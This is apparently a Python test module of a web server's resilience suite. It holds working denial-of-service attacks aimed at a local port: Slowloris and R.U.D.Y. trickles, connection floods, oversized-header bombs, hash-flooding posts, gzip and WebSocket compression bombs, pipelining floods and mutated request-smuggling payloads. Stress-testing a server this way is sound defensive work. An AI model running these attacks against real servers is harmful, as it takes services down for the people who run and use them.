"""Attacks on a server, each a function that takes a port and goes on until it is told to stop, or has done its worst."""

from __future__ import annotations

import contextlib
import gzip
import json
import random
import socket
import threading
import time
import zlib
from collections.abc import Callable

from recorder import connect, read_all
from smuggling import ATTACKS

Stop = threading.Event
Attack = Callable[[int, Stop], None]

UPGRADE = (
    b"GET /app/websocket HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
)


def frame(first: int, payload: bytes) -> bytes:
    """A client's frame (RFC 6455 §5.2) whose mask changes nothing; `first` is FIN, the reserved bits and the opcode."""
    size = len(payload)
    length = bytes([0x80 | size]) if size < 126 else b"\xfe" + size.to_bytes(2, "big")
    return bytes([first]) + length + bytes(4) + payload


ENDLESS_FRAGMENTS = [
    frame(0x01, b"") + frame(0x00, b"") * 5_000,
    frame(0x02, b"x") + frame(0x00, b"y") * 200_000,
    # Empty stored blocks (RFC 1951 §3.2.4), and 60 MB of zeros.
    frame(0x42, b"") + frame(0x00, b"\0\0\0\xff\xff" * 20) * 5_000,
    frame(0xC2, zlib.compress(bytes(60_000_000), 9)[2:-4]),
]


def slow_headers(port: int, stop: Stop, connections: int = 100) -> None:
    """Slowloris: a field now and then, and never the end."""
    trickle(port, stop, connections, b"GET /app/small HTTP/1.1\r\nHost: a\r\n", b"X: y\r\n")


def slow_content(port: int, stop: Stop, connections: int = 100) -> None:
    """R.U.D.Y.: a byte of a long form now and then."""
    trickle(
        port,
        stop,
        connections,
        b"POST /app/form HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n",
        b"a",
    )


def slow_unread_content(port: int, stop: Stop, connections: int = 50) -> None:
    """A byte now and then of content that nobody reads."""
    trickle(port, stop, connections, b"POST /_ignore HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n\r\n", b"a")


def slow_readers(port: int, stop: Stop, connections: int = 20) -> None:
    """Many large answers are asked for, and hardly a byte is read."""
    peers = Peers(port)
    while not stop.is_set():
        peers.fill(connections, b"GET /app/large HTTP/1.1\r\nHost: a\r\n\r\n" * 500, receive_bytes=4_096)
        for peer in peers.open:
            with contextlib.suppress(OSError):
                peer.recv(16)
        peers.drop_closed()
        stop.wait(1)
    peers.close()


def connection_flood(port: int, stop: Stop, connections: int = 400) -> None:
    """More connections than there is room for, kept as long as the server does."""
    peers = Peers(port)
    while not stop.is_set():
        peers.fill(connections, b"")
        peers.drop_closed()
        stop.wait(0.5)
    peers.close()


def half_peers(port: int, stop: Stop) -> None:
    """Peers that reset in the middle, that say half a request and no more, and that stop listening."""
    while not stop.is_set():
        for text in (
            b"GET /app/small HTTP/1.1\r\nHo",
            b"POST /app/echo HTTP/1.1\r\nHost: a\r\nContent-Length: 99\r\n\r\n{",
            b"GET /app/large HTTP/1.1\r\nHost: a\r\n\r\n" * 3,
        ):
            with contextlib.suppress(OSError), connect(port) as peer:
                peer.sendall(text)
                if random.random() < 0.5:
                    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
                else:
                    peer.shutdown(socket.SHUT_WR)
                    peer.settimeout(1)
                    peer.recv(100)
        stop.wait(0.02)


def header_bombs(port: int, stop: Stop) -> None:
    """Heads that are too long, have too many fields, or never end."""
    bombs = [
        b"GET /" + b"a" * 100_000,
        b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 5_000,
        b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"y" * 1_000_000,
        b"A" * 1_000_000,
        b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1;" + b"e" * 100_000,
        b"\r\n" * 50_000,
        b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n" + b"X: y\r\n" * 5_000,
    ]
    repeat(port, stop, bombs)


def hash_floods(port: int, stop: Stop) -> None:
    repeat(port, stop, [json_post(flooded_note(20_000)), form_post(b"&".join(b"k%d=v" % number for number in range(20_000)))])


def compression_bombs(port: int, stop: Stop) -> None:
    bomb = gzip.compress(bytes(100_000_000), 9)
    repeat(port, stop, [head("/app/inflate", len(bomb)) + bomb])


def pipelines(port: int, stop: Stop) -> None:
    """Thousands of requests before the first answer is read."""
    text = b"GET /app/small HTTP/1.1\r\nHost: a\r\n\r\n" * 5_000
    while not stop.is_set():
        with contextlib.suppress(OSError), connect(port, 20) as peer:
            sender = threading.Thread(target=send_quietly, args=(peer, text))
            sender.start()
            peer.settimeout(5)
            received = 0
            while received < 5_000 * 100 and (piece := peer.recv(65_536)):
                received += len(piece)
            peer.close()
            sender.join()
        stop.wait(0.2)


def websocket_fragments(port: int, stop: Stop) -> None:
    """Fragments of a message that never ends: empty ones, short ones, ones whose compressed data stands for nothing or for far too much."""
    repeat(port, stop, [UPGRADE + text for text in ENDLESS_FRAGMENTS])


def websocket_bombs(port: int, stop: Stop) -> None:
    """Messages and pings by the thousand whose answers are not read, and frames that claim much and send little."""
    readers, claims = Peers(port), Peers(port)
    frames = frame(0x82, bytes(60_000)) + frame(0x89, b"p" * 125) * 500
    while not stop.is_set():
        readers.fill(20, UPGRADE, receive_bytes=4_096)
        readers.send(frames)
        claims.fill(50, UPGRADE + b"\x82\xfe\xff\xff" + bytes(4))
        for peers in (readers, claims):
            peers.drop_closed()
        stop.wait(0.1)
    for peers in (readers, claims):
        peers.close()


def broken_requests(port: int, stop: Stop) -> None:
    """Every attack of the smuggling families, with a byte or two changed."""
    dice = random.Random(7)
    while not stop.is_set():
        text = bytearray(dice.choice(ATTACKS).bytes)
        for _ in range(dice.randrange(3)):
            text[dice.randrange(len(text))] = dice.choice(b"\r\n\0 \t:;,0aF\xff")
        with contextlib.suppress(OSError), connect(port) as peer:
            peer.sendall(text)
            peer.shutdown(socket.SHUT_WR)
            peer.settimeout(0.2)
            read_all(peer)
        stop.wait(0.005)


ALL: list[Attack] = [
    slow_headers,
    slow_content,
    slow_unread_content,
    slow_readers,
    connection_flood,
    half_peers,
    header_bombs,
    hash_floods,
    compression_bombs,
    pipelines,
    websocket_fragments,
    websocket_bombs,
    broken_requests,
]


# What they are made of.


class Peers:
    """Connections that are kept, and opened anew as the server closes them."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.open: list[socket.socket] = []
        self.closed_count = 0

    def fill(self, count: int, text: bytes, receive_bytes: int | None = None) -> None:
        while len(self.open) < count:
            try:
                peer = socket.socket()
                if receive_bytes:
                    peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
                peer.settimeout(5)
                peer.connect(("127.0.0.1", self.port))
                peer.setblocking(False)
                with contextlib.suppress(OSError):
                    peer.send(text)
                self.open.append(peer)
            except OSError:
                return

    def send(self, text: bytes) -> None:
        for peer in self.open:
            with contextlib.suppress(OSError):
                peer.send(text)

    def drop_closed(self) -> None:
        kept = []
        for peer in self.open:
            if is_closed(peer):
                peer.close()
                self.closed_count += 1
            else:
                kept.append(peer)
        self.open = kept

    def close(self) -> None:
        for peer in self.open:
            peer.close()
        self.open = []


def is_closed(peer: socket.socket) -> bool:
    """Whether the server has closed it; looks without taking."""
    try:
        return peer.recv(1, socket.MSG_PEEK) == b"" or peer.recv(65_536, socket.MSG_PEEK | socket.MSG_TRUNC) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def trickle(port: int, stop: Stop, connections: int, first: bytes, more: bytes) -> None:
    peers = Peers(port)
    while not stop.is_set():
        peers.fill(connections, first)
        peers.send(more)
        for peer in peers.open:
            # An answer that came says that the connection ends; it must not hide its end.
            with contextlib.suppress(OSError):
                peer.recv(65_536)
        peers.drop_closed()
        stop.wait(0.5)
    peers.close()


def repeat(port: int, stop: Stop, texts: list[bytes]) -> None:
    while not stop.is_set():
        for text in texts:
            with contextlib.suppress(OSError), connect(port) as peer:
                send_quietly(peer, text)
                peer.settimeout(2)
                peer.recv(65_536)
        stop.wait(0.2)


def send_quietly(peer: socket.socket, text: bytes) -> None:
    """The server may refuse before everything is sent."""
    with contextlib.suppress(OSError):
        peer.sendall(text)


def head(path: str, length: int, kind: str = "application/octet-stream") -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\r\n".encode()


def json_post(body: bytes) -> bytes:
    return head("/app/echo", len(body), "application/json") + body


def form_post(body: bytes) -> bytes:
    return head("/app/form", len(body), "application/x-www-form-urlencoded") + body


def flooded_note(keys: int) -> bytes:
    """A note whose dictionary has so many keys, and as many members that nobody declared."""
    note = {"name": "a", "labels": {f"k{number:08}": "" for number in range(keys)}} | {f"u{number:08}": 0 for number in range(keys)}
    return json.dumps(note, separators=(",", ":")).encode()


def cpu_seconds(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as file:
        fields = file.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / 100


def wait_a_moment(stop: Stop, seconds: float) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end and not stop.is_set():
        stop.wait(0.2)
